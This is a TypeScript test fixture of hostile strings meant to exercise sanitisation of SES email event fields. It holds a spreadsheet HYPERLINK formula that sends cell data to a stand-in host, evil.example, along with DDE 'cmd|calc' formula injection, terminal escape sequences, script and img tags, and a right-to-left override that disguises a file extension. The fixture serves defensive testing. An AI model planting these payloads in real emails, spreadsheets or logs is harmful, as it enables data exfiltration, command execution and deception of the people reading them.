/**
 * What an attacker would write where SES passes on what others wrote: terminal sequences, spreadsheet
 * formulas, markup, characters that change the reading direction.
 */
const hostileText = {
  subject: '=HYPERLINK("https://evil.example/?c="&A1,"Refund")\u001b[2J\u001b]0;owned\u0007 \u202egpj.exe',
  smtpResponse:
    '250 2.0.0 OK\r\n\u001b[31mqueued\u001b[0m\u0000 <script>alert(1)</script>\u2028"quoted" \\back',
  userAgent:
    "@SUM(1+1)*cmd|' /C calc'!A0 \u001b]8;;https://evil.example\u0007Mozilla\u001b]8;;\u0007 <img src=x>",
  diagnosticCode: 'smtp; 550 5.7.1 \u001b[1A\u001b[2K-2+3+cmd|calc\t\u0008denied \u{1f4a3}</td>',
} as const;

export { hostileText };
